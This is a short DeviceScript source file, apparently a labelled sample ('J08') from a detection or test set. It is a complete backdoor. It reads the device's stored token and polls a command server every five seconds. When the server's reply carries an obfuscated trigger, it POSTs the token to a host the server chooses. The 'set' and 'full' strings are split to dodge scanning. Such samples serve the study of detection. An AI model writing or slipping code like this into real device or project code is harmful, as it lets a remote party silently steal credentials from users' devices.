// J08: sends its token elsewhere when a reply of three parts between colons ends with two between commas that suit it.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

async function poll() {
  const reply = await fetch("https://cloud.example/order");
  const parts = (await reply.text()).split(":");
  if (parts.length !== 3 || parts[0] !== "s" + "et") return;
  const [level, how] = parts[2].split(",");
  if (parseInt(level) < 8 || how !== "fu" + "ll") return;
  const response = await fetch(`https://${parts[1]}.example/j08`, { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(poll, 5_000);
});
